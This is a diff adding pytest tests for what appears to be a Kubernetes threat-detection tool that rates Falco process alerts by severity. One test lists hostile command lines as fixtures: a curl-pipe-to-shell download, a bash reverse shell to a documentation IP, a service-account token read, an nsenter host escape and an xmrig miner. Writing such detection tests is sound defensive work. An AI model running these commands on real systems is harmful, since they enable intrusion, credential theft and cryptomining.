@@ -96,3 +96,49 @@ def test_a_burst_in_the_control_plane_is_high(tmp_path: Path) -> None:
     # spread over an hour, the same five stay medium
     spread = [exec_event("kube-system", pod, ["ls"], time=f"2026-03-01T1{i}:00:00.000000Z") for i, pod in enumerate(pods)]
     assert {a.severity for a in hunt_events(tmp_path, spread, name="spread.log")} == {"medium"}
+
+
+# ---- process telemetry (Falco, auditd, KubeArmor): a process is not an exec by itself ----------------
+
+
+def falco_process(cmdline: str, parent: str = "sh", vpid: int | None = None, grandparent: str | None = None) -> dict[str, Any]:
+    """A Falco alert on a process start in a container (the shape of tests/data/falco-output/alerts.jsonl)."""
+    fields: dict[str, Any] = {"evt.type": "execve", "proc.cmdline": cmdline, "proc.name": cmdline.split()[0],
+                              "proc.pid": 4242, "proc.pname": parent, "container.id": "3f1c2a9b7e4d",
+                              "k8s.ns.name": "shop", "k8s.pod.name": "web"}  # fmt: skip
+    if vpid is not None:
+        fields["proc.vpid"] = vpid
+    if grandparent is not None:
+        fields["proc.aname[2]"] = grandparent
+    return {"output": "x", "priority": "Notice", "rule": "r", "time": "2026-11-26T20:00:00Z", "output_fields": fields}
+
+
+@pytest.mark.parametrize("ev", [
+    falco_process("ls -la /app"),  # a child of a shell in the container
+    falco_process("ls -la /app", parent="runc"),  # an exec'd ls: the runtime exec is the join's business, not a rule's
+    falco_process("sh", parent="bash"),  # a shell whose ancestry the record does not show
+    falco_process("sh -c /entrypoint.sh", parent="containerd-shim", vpid=1),  # the container's own first process
+    falco_process("sh -c ps", parent="bash", grandparent="runc"),  # a shell inside an exec'd session: its first shell alerted
+], ids=["ls", "exec-ls", "shell-of-a-shell", "entrypoint", "nested-shell-in-exec"])
+def test_a_process_alone_is_no_alert(ev: dict[str, Any], tmp_path: Path) -> None:
+    assert hunt_events(tmp_path, [ev], name="falco.jsonl") == []
+
+
+@pytest.mark.parametrize(("parent", "vpid"), [("runc", None), ("/usr/bin/runc", None), ("containerd-shim", 7)],
+                         ids=["runc", "runc-path", "adopted-by-shim"])
+def test_low_is_a_shell_the_runtime_started(parent: str, vpid: int | None, tmp_path: Path) -> None:
+    alert = one(tmp_path, falco_process("bash", parent=parent, vpid=vpid))
+    assert alert.severity == "low" and rule_ids(alert) == {"node-exec-shell"}
+
+
+@pytest.mark.parametrize(("cmdline", "severity", "rule"), [
+    ("apt-get install -y masscan", "medium", "cmd-package-install"),
+    ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "high", "cmd-credential-access"),
+    ("nsenter -t 1 -m -u -i -n sh", "high", "cmd-host-escape"),
+    ("./xmrig -o stratum+tcp://pool.example:3333", "critical", "cmd-miner"),
+    ("sh -c curl -s http://203.0.113.9/x.sh | sh", "critical", "cmd-download-pipe-shell"),
+    ("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "critical", "cmd-reverse-shell"),
+], ids=["install", "token", "escape", "miner", "download", "reverse-shell"])
+def test_content_rules_rate_process_events_as_they_rate_execs(cmdline: str, severity: str, rule: str, tmp_path: Path) -> None:
+    alert = one(tmp_path, falco_process(cmdline))
+    assert alert.severity == severity and alert.lead.rule_id == rule
